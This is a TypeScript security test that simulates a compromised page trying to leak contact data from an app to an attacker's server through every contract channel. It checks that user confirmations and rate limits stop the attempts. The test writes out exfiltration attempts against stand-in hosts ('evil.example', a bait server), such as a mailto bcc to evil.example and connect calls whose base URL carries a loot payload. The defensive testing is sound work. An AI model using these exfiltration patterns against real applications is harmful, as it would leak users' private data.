import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contract } from '../../../shared/contract/index.ts';
import type { CallDef } from '../../../shared/contract/kit.ts';
import { IS_FULL } from '../../support/common/full-size.ts';
import { until } from '../../support/common/until.ts';
import { inputOf, sample } from '../../support/generators/schema-samples.ts';
import { deliver, eventOf, freePort } from '../../support/webhook/webhook-receiver.ts';
import { measure, number, reportFigure } from '../support/figures.ts';
import { connectUser, startAttack, type Attack } from '../support/hostile-page.ts';

/*
 * Goal C3 of `npm run security`: a compromised page that makes every call in the contract cannot send data to
 * anyone unless the user agrees in a native dialog. A real server plays the attacker's host. Two exceptions
 * are allowed, because the product needs them: mail drafts to stored contacts, and requests to the account's
 * own service. They are limited and counted separately.
 */

const MESSAGES_PER_CHANNEL = IS_FULL ? 60 : 3;
/**
 * The data that the page tries to send out, for example contacts that it has read. The text is short enough
 * for a key, a link or a message.
 */
const LOOT = `loot-${'c0ntact'.repeat(80)}`;
const isLoot = (text: string): boolean => text.includes('loot-');

const calls: readonly { readonly channel: string; readonly def: CallDef }[] = Object.entries(
  contract,
).flatMap(([group, members]) =>
  Object.entries(members).flatMap(([name, def]: [string, CallDef | { kind: 'push' }]) =>
    def.kind === 'call' ? [{ channel: `${group}.${name}`, def }] : [],
  ),
);

/**
 * The page calls these channels last, because the calls may close the workspace under attack or prevent
 * further attacks.
 */
const LAST = /^(workspaces\.(leave|open|remove|exploreDemo)|privacy\.|backups\.|keys\.|demo\.)/;

/**
 * Prepares a message for the attack: replaces about half of its strings with `LOOT`, its base URLs with the
 * attacker's address, and its ids with real ids.
 */
function armed(value: unknown, bait: string, ids: readonly string[], at: number): unknown {
  if (Array.isArray(value)) return value.map((part, index) => armed(part, bait, ids, at + index));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, part]) => {
      if (key === 'baseUrl') return [key, `${bait}/${LOOT}/api/v1`];
      if (key === 'accepted') return [key, { requests: 9, records: 900, pageTurns: 9, companies: 9 }];
      if (/^(id|companyId)$/.test(key)) return [key, ids[at % ids.length] ?? part];
      if (typeof part === 'string' && at % 2 === 0) return [key, LOOT];
      return [key, armed(part, bait, ids, at)];
    }),
  );
}

/**
 * Sends messages to every channel, with `LOOT` where the schema allows it. Returns how many were sent and how
 * many succeeded.
 */
async function callEverything(attack: Attack, ids: readonly string[]): Promise<{ sent: number; ok: number }> {
  const counts = { sent: 0, ok: 0 };
  const ordered = [...calls].sort((a, b) => Number(LAST.test(a.channel)) - Number(LAST.test(b.channel)));
  for (const { channel, def } of ordered) {
    const inputs = fc.sample(sample(inputOf(def.input)), { numRuns: MESSAGES_PER_CHANNEL, seed: 31 });
    for (const [at, input] of inputs.entries()) {
      const message = armed(input, attack.bait, ids, at);
      // Adding `LOOT` can make a message violate the channel's schema. In that case, the original input is
      // sent instead.
      const isUsable = def.input.safeParse(message).success;
      const reply = await attack.app.port.request(channel, isUsable ? message : input);
      counts.sent += 1;
      if (reply.ok) counts.ok += 1;
      else expect(reply.error.kind, channel).not.toBe('internal');
      // Without this wait, the governor's minute limit would stop the attack.
      attack.waitMinute();
    }
  }
  return counts;
}

const event = (companyId: string, website: string, more: object = {}): object => {
  const base = eventOf({ companyId, roundId: `fnd_${companyId}_${website.length}` });
  const company = { ...Object(base['company']), websiteUrl: website, website, linkedinUrl: website };
  return { ...base, timestamp: '2099-01-01T00:00:00Z', company, ...more };
};

const evil = `https://evil.example/${LOOT}`;

/** Tries to send data in ways that need several calls. */
async function tryChains(
  { app: { api, port }, waitMinute, bait }: Attack,
  ids: readonly string[],
  connects: number,
): Promise<void> {
  const open = async (companyId: string): Promise<void> => {
    for (const kind of ['website', 'linkedin'])
      await port.request('links.open', { companyId, link: { kind }, confirmedHost: 'evil.example' });
  };
  const paste = (body: object) => api.signals.paste({ text: JSON.stringify(body) });
  const merged = (companyId: string) =>
    until(async () => {
      const reply = await port.request('companies.get', { id: companyId });
      return reply.ok;
    }, `company ${companyId} in the library`);
  // Pastes events about a company that is not stored yet, and about a company that was fetched from the
  // service.
  const pasted = await paste(event('cmp_pasted', evil));
  await merged('cmp_pasted');
  await paste(event(ids[0] ?? '', evil));
  for (const companyId of ['cmp_pasted', ids[0] ?? '']) await open(companyId);
  // Removes the pasted event from the signal stream, and then undoes the removal.
  if (pasted.outcome !== 'refused') await api.signals.remove({ id: pasted.id }).catch(() => null);
  await port.request('marks.undo', {});
  await open('cmp_pasted');
  // Delivers an event to the receiver, then pastes the same event with a different address in it.
  const receiverPort = await freePort();
  await api.signals.setAddress({ port: receiverPort, tunnelHost: null });
  const { key } = await api.signals.makeKey({ place: 'session' });
  const { path } = await api.signals.setEnabled({ enabled: true });
  const real = event('cmp_real', 'https://real.example/');
  const sent = { port: receiverPort, path, authorization: `Bearer ${key}` };
  expect((await deliver(real, sent)).status).toBe(202);
  await merged('cmp_real');
  const repeated = { ...real, company: Object(Reflect.get(event('cmp_real', evil), 'company')) };
  expect(await paste(repeated)).toMatchObject({ outcome: 'known' });
  await paste(event('cmp_real', evil));
  await until(async () => (await api.signals.summary({})).total > 0, 'the pasted events');
  await open('cmp_real');
  // Connects to the attacker's host many times, with `LOOT` in the path and in the key.
  const { cost: accepted } = await api.workspaces.connectPrice({});
  for (let at = 0; at < connects; at += 1) {
    const request = { apiKey: `${LOOT}${at}`, place: 'session', people: { mode: 'none' }, accepted };
    await port.request('workspaces.connect', {
      ...request,
      baseUrl: `${bait}/${LOOT}/api/v1`,
      screen: 'first-run',
    });
    if (at % 4 === 3) waitMinute();
  }
}

let attack: Attack;
let user: { id: string; ids: string[] };
beforeAll(async () => {
  attack = await startAttack();
  user = await connectUser(attack);
});
afterAll(() => attack.dispose());

describe('a compromised page', () => {
  it('opens at most ten links and drafts a minute alone; a draft goes to a stored contact', async () => {
    const { app, opened, questions } = attack;
    const { people } = await app.api.companies.people({ id: user.id });
    const person = people.find(({ email, emailValid }) => email !== null && emailValid);
    attack.agrees = false;
    attack.waitMinute();
    opened.length = 0;
    questions.length = 0;
    for (let at = 0; at < 40; at += 1)
      await app.port.request('links.mail', {
        companyId: user.id,
        personId: person?.personId,
        subject: `${LOOT.slice(0, 200)} ${at}`,
        body: `a@evil.example?bcc=b@evil.example&${LOOT}`,
      });
    expect(opened).toHaveLength(10);
    for (const url of opened) {
      expect(url.startsWith(`mailto:${encodeURIComponent(person?.email ?? '').replace('%40', '@')}?`)).toBe(
        true,
      );
      expect([...new URL(url).searchParams.keys()]).toEqual(['subject', 'body']);
    }
    // The app opens ten drafts without confirmation. For each further draft it asks the user, but at most six
    // times a minute.
    expect(questions).toHaveLength(6);
    expect(questions[0]).toEqual({
      kind: 'open-link',
      host: null,
      isPlain: false,
      isPasted: false,
      isMany: true,
    });
    attack.waitMinute();
    opened.length = 0;
    questions.length = 0;
  });

  it(
    'sends nothing to a host that the user did not confirm, with any call of the contract',
    { timeout: 600_000 },
    async () => {
      attack.agrees = false;
      await tryChains(attack, user.ids, 20);
      const chainQuestions = attack.questions.length;
      const { sent, ok } = await callEverything(attack, user.ids);
      const { opened, requested, service, bait } = attack;
      const { origin } = new URL(service.baseUrl);
      const leaks = [
        ...requested.filter((url) => new URL(url).origin !== origin),
        ...opened.filter((url) => !url.startsWith('mailto:') && isLoot(url)),
        ...opened.filter((url) => url.startsWith('http:')),
      ];
      const bytes = attack.baitBytes() + leaks.reduce((sum, url) => sum + Buffer.byteLength(url), 0);
      const tried = `${number(sent)} messages over ${calls.length} channels and 5 chains, ${number(ok)} performed`;
      reportFigure(`C3 ${tried}: ${bytes} bytes without a native confirmation (${chainQuestions} questions)`);
      measure('C3', { tried, violations: `${bytes} bytes` });
      expect({ bytes, leaks: leaks.map((url) => url.slice(0, 80)) }).toEqual({ bytes: 0, leaks: [] });
      // The attack did get this far: the app asked the user whether to open links to the attacker's hosts.
      const hosts = attack.questions.flatMap((question) => ('host' in question ? [question.host] : []));
      expect(hosts).toEqual(expect.arrayContaining([new URL(bait).host, 'evil.example']));
      expect(ok).toBeGreaterThan(sent / 5);
    },
  );

  it('is found by these measurements if the user agrees (planted defect)', { timeout: 120_000 }, async () => {
    const planted = await startAttack();
    try {
      const { ids } = await connectUser(planted);
      await tryChains(planted, ids, 1);
      const caught = [planted.baitBytes() > LOOT.length, planted.opened.some(isLoot)].filter(Boolean).length;
      measure('C3', { planted: { caught, of: 2 } });
      expect(caught).toBe(2);
    } finally {
      await planted.dispose();
    }
  });
});
